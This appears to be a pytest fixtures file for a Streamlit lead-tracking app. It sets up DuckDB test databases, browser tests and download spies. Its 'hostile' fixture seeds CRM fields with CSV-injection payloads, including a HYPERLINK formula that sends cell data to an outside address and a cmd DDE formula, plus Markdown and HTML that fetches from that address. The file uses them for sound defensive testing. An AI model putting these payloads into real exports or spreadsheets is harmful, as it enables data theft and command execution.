"""Shared fixtures: the hand-made dataset in tests/fixtures/, loaded into a real DuckDB file."""

from __future__ import annotations

import os
import shutil
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from leadflow import db

# The committed config hides error details from users; a failing test should show them.
os.environ.setdefault("STREAMLIT_CLIENT_SHOW_ERROR_DETAILS", "full")

FIXTURES = Path(__file__).parent / "fixtures"
FIXTURE_AS_OF = datetime(2026, 4, 1)


def fixture_tables() -> dict[str, pd.DataFrame]:
    """Every CSV in tests/fixtures/ as text; DuckDB casts to the schema's types on insert."""
    return {
        path.stem: pd.read_csv(path, dtype=str, keep_default_na=False).replace("", None)
        for path in sorted(FIXTURES.glob("*.csv"))
    }


@pytest.fixture(scope="session")
def fixture_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("fixture") / "leadflow.duckdb"
    db.create_database(path, fixture_tables(), source="test fixture", as_of=FIXTURE_AS_OF)
    return path


@pytest.fixture(autouse=True)
def _fresh_caches():
    st.cache_data.clear()
    yield
    st.cache_data.clear()


@pytest.fixture
def use_fixture_db(fixture_db: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("LEADFLOW_DB", str(fixture_db))
    return fixture_db


@pytest.fixture(scope="module")
def app_url(fixture_db, tmp_path_factory, request):
    """`streamlit run` on a copy of the fixture for one browser-test module (a copy, so the
    server's lock on the file does not get in the way of other tests)."""
    from tests.browser import ARTIFACTS, running_app

    name = request.module.__name__.rsplit(".", 1)[-1]
    database = tmp_path_factory.mktemp(name) / "leadflow.duckdb"
    shutil.copy(fixture_db, database)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with running_app(database, ARTIFACTS / f"server_{name}.log") as app:
        yield app.url


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    from tests.browser import CHROMIUM, CHROMIUM_ARGS

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1440, "height": 1000})
    yield context.new_page()
    context.close()


# Values an attacker could put into a CRM export: formulas a spreadsheet would run (OWASP's
# CSV-injection cases, tab and carriage-return variants included) and Markdown/HTML that would
# fetch from, or link to, an address outside the app.
FORMULAS = [
    '=HYPERLINK("http://198.51.100.1/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
OUTSIDE = "198.51.100.1"  # TEST-NET-2: an address that is nobody's
IMAGE = f"![x](http://{OUTSIDE}/x.png)"
HTML_IMAGE = f"<img src=http://{OUTSIDE}/y>"
LINK = f"[click](http://{OUTSIDE})"
HTML_LINK = f'<a href="http://{OUTSIDE}/z">z</a>'  # Plotly's labels understand this one
MARKUP = f"{IMAGE} {HTML_IMAGE} {LINK} {HTML_LINK} **bold**"


def hostile_tables() -> dict[str, pd.DataFrame]:
    """The fixture with formulas in companies, job titles, a campaign and a rejection reason,
    and Markdown in the top rejection reason, an industry, a campaign and a touchpoint type."""
    tables = fixture_tables()
    leads = tables["leads"]
    leads["company"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(leads))]
    leads["job_title"] = [FORMULAS[(i + 3) % len(FORMULAS)] for i in range(len(leads))]
    reasons = {"L03": MARKUP, "L09": MARKUP, "L17": "=cmd|' /C calc'!A0"}
    leads["rejection_reason"] = [
        reasons.get(lead, reason)
        for lead, reason in zip(leads["lead_id"], leads["rejection_reason"])
    ]
    leads.loc[leads["industry"] == "manufacturing", "industry"] = MARKUP
    tables["campaigns"]["name"] = ['=HYPERLINK("http://198.51.100.1","x")', MARKUP]
    touchpoints = tables["touchpoints"]
    touchpoints.loc[touchpoints["type"] == "ebook_download", "type"] = MARKUP
    return tables


@pytest.fixture(scope="session")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile fixture in a database whose source (the mapping's name) is Markdown too."""
    path = tmp_path_factory.mktemp("hostile") / "leadflow.duckdb"
    db.create_database(path, hostile_tables(), source=MARKUP, as_of=FIXTURE_AS_OF)
    return path


@pytest.fixture
def deferred_downloads(monkeypatch: pytest.MonkeyPatch) -> dict:
    """file name → the callable of every download button made on click, as pages register
    them. Calling one in the test runs it as the server does: outside the page's run, where
    st.user is empty."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    made: dict = {}
    register = MediaFileManager.add_deferred

    def spy(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        made[file_name] = data_callable
        return register(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", spy)
    return made


def opened_page(script: str, **query) -> AppTest:
    """The page `script` (a path from the repository's root) under AppTest, with `query` in its
    address, run once and without an exception."""
    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / script), default_timeout=60)
    for key, value in query.items():
        at.query_params[key] = value
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    return at


@pytest.fixture
def empty_app(tmp_path, monkeypatch) -> AppTest:
    """The app on an empty database, opened on the landing page (so page links resolve): where
    a team starts before its first import."""
    path = tmp_path / "leadflow.duckdb"
    db.create_empty_database(path)
    monkeypatch.setenv("LEADFLOW_DB", str(path))
    at = AppTest.from_file(
        str(Path(__file__).resolve().parent.parent / "app.py"), default_timeout=60
    )
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    yield at
    db.close(path)
